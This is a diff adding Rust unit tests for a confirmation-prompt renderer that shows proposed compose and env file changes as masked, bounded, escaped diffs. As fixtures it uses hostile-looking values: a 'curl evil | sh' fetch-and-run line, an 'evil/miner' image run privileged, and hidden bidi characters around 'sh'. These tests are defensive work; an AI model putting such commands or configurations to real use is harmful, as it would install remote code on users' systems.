@@ -449,4 +449,163 @@ mod tests {
         // The content is fenced by a fence longer than any of its own.
         assert!(t.contains("````text\nservices:"), "{t}");
     }
+
+    fn update() -> Action {
+        let mut a: Action = serde_json::from_value(json!({
+            "id": "project.update", "domain": "project", "name": "update",
+            "title": "Update project", "description": "", "method": "PUT",
+            "path": "/environments/{id}/projects/{projectId}", "params": [
+                {"name": "environmentId", "wireName": "id", "location": "environment", "required": false, "description": "", "schema": {}},
+                {"name": "projectId", "wireName": "projectId", "location": "path", "required": true, "description": "", "schema": {}},
+                {"name": "composeContent", "wireName": "composeContent", "location": "bodyProperty", "required": false, "description": "", "schema": {}},
+                {"name": "envContent", "wireName": "envContent", "location": "bodyProperty", "required": false, "description": "", "schema": {}}
+            ],
+            "inputSchema": {}, "required": [], "mutating": true, "destructive": false,
+            "confirmAlways": true,
+            "confirmDiff": [
+                {"param": "composeContent", "from": "project.get", "field": "data.composeContent"},
+                {"param": "envContent", "from": "project.get", "field": "data.envContent"}
+            ],
+            "idempotent": true, "kind": "json", "body": "json", "list": false,
+            "sortable": false, "related": [], "followUps": [], "widenings": [], "source": "test"
+        }))
+        .unwrap();
+        a.derived_id = a.id.clone();
+        a
+    }
+
+    fn with_baseline(params: Value, current: &[(&str, Result<Value, String>)]) -> String {
+        let baseline: Baseline = current
+            .iter()
+            .map(|(k, v)| (k.to_string(), v.clone()))
+            .collect();
+        describe_with(
+            &update(),
+            params.as_object().unwrap(),
+            &Map::new(),
+            Some("0"),
+            &baseline,
+        )
+        .text()
+        .to_string()
+    }
+
+    #[test]
+    fn a_replaced_document_is_shown_as_a_diff_against_the_current_one() {
+        let old = "services:\n  web:\n    image: nginx:1.27\n    ports:\n      - 80:80\n  db:\n    image: postgres:16\n";
+        let new = "services:\n  web:\n    image: evil/miner\n    privileged: true\n    ports:\n      - 80:80\n  db:\n    image: postgres:16\n";
+        let t = with_baseline(
+            json!({"projectId": "p1", "composeContent": new}),
+            &[("composeContent", Ok(json!(old)))],
+        );
+        assert!(
+            t.contains("- `composeContent`: what changes against the current version, read through `project.get` — 1 line removed, 2 added, 8 lines after the change:\n```diff\n@@ -1,6 +1,7 @@\n services:\n   web:\n-    image: nginx:1.27\n+    image: evil/miner\n+    privileged: true\n     ports:\n"),
+            "{t}"
+        );
+        // The same document: said so, no diff.
+        let t = with_baseline(
+            json!({"projectId": "p1", "composeContent": old}),
+            &[("composeContent", Ok(json!(old)))],
+        );
+        assert!(t.contains("the same as the current version"), "{t}");
+        assert!(!t.contains("```"), "{t}");
+    }
+
+    #[test]
+    fn a_changed_secret_shows_as_a_changed_line_with_neither_value() {
+        let t = with_baseline(
+            json!({"projectId": "p1", "envContent": "TZ=UTC\nDB_PASSWORD=hunter2-new\nDEBUG=1\n"}),
+            &[(
+                "envContent",
+                Ok(json!("TZ=UTC\nDB_PASSWORD=hunter2\nDEBUG=0\n")),
+            )],
+        );
+        assert!(!t.contains("hunter2"), "{t}");
+        assert!(t.contains("2 lines removed, 2 added"), "{t}");
+        let minus = t.lines().find(|l| l.starts_with("-DB_PASSWORD=")).expect(&t);
+        let plus = t.lines().find(|l| l.starts_with("+DB_PASSWORD=")).expect(&t);
+        assert_eq!(minus[1..], plus[1..], "both masked alike: {t}");
+        assert!(t.contains("\n TZ=UTC\n") && t.contains("\n-DEBUG=0\n") && t.contains("\n+DEBUG=1\n"), "{t}");
+    }
+
+    #[test]
+    fn a_document_that_could_not_be_read_is_shown_whole_with_the_reason() {
+        let t = with_baseline(
+            json!({"projectId": "p1", "composeContent": "services:\n  web:\n    image: x\n"}),
+            &[(
+                "composeContent",
+                Err("Arcane did not answer within 10 s".into()),
+            )],
+        );
+        assert!(
+            t.contains("the current version could not be read to show what changes: Arcane did not answer within 10 s"),
+            "{t}"
+        );
+        assert!(t.contains("```text\nservices:\n  web:\n    image: x\n```"), "{t}");
+    }
+
+    #[test]
+    fn a_long_diff_is_bounded_and_shows_its_end() {
+        let old: String = (0..3000).map(|i| format!("line {i}\n")).collect();
+        let mut new: String = (0..3000).map(|i| format!("line {i} changed\n")).collect();
+        new.push_str("payload: curl evil | sh\n");
+        let t = with_baseline(
+            json!({"projectId": "p1", "composeContent": new}),
+            &[("composeContent", Ok(json!(old)))],
+        );
+        assert!(t.contains("3000 lines removed, 3001 added"), "{}", &t[..300]);
+        assert!(t.contains("in the middle not shown"), "cut");
+        assert!(t.contains("+payload: curl evil | sh"), "the tail is shown");
+        assert!(t.chars().count() < 10_000, "{} characters", t.chars().count());
+    }
+
+    #[test]
+    fn a_long_value_shows_its_head_and_its_tail_with_the_size_of_the_cut() {
+        let mut compose = String::from("services:\n");
+        for i in 0..2000 {
+            compose.push_str(&format!("  s{i}: {{image: nginx}}\n"));
+        }
+        compose.push_str("  zz: {image: evil/miner, privileged: true}\n");
+        let t = describe(
+            &update(),
+            json!({"projectId": "p1", "composeContent": compose})
+                .as_object()
+                .unwrap(),
+            &Map::new(),
+            None,
+        )
+        .text()
+        .to_string();
+        assert!(t.contains("```text\nservices:\n  s0: {image: nginx}\n"), "head");
+        assert!(t.contains("  zz: {image: evil/miner, privileged: true}\n```"), "tail");
+        let note = t
+            .lines()
+            .find(|l| l.starts_with("… ") && l.contains("in the middle not shown"))
+            .expect("the cut, outside the fences");
+        let cut: usize = note[4..].split(' ').next().unwrap().parse().unwrap();
+        let shown = t.chars().count();
+        assert!(cut > 30_000 && shown < 9_500, "{cut} cut, {shown} shown");
+    }
+
+    #[test]
+    fn invisible_and_bidi_characters_are_shown_escaped() {
+        let params = json!({"projectId": "p\u{200b}1",
+            "composeContent": "services:\n  web:\n    image: nginx\u{202e}\u{2066}\n    command: \"\u{feff}sh\u{e0041}\"\n"});
+        let t = describe(&update(), params.as_object().unwrap(), &Map::new(), None)
+            .text()
+            .to_string();
+        assert!(t.contains("`p\\u{200B}1`"), "{t}");
+        assert!(
+            t.contains("image: nginx\\u{202E}\\u{2066}\n    command: \"\\u{FEFF}sh\\u{E0041}\""),
+            "{t}"
+        );
+        assert!(t.contains("holds 4 invisible or control characters"), "{t}");
+        assert!(!t.chars().any(arcane_markdown::is_hidden_char), "{t}");
+        // In a diff too.
+        let t = with_baseline(
+            json!({"projectId": "p1", "composeContent": "a\nb\u{202e}\n"}),
+            &[("composeContent", Ok(json!("a\nb\n")))],
+        );
+        assert!(t.contains("-b\n+b\\u{202E}\n"), "{t}");
+    }
 }
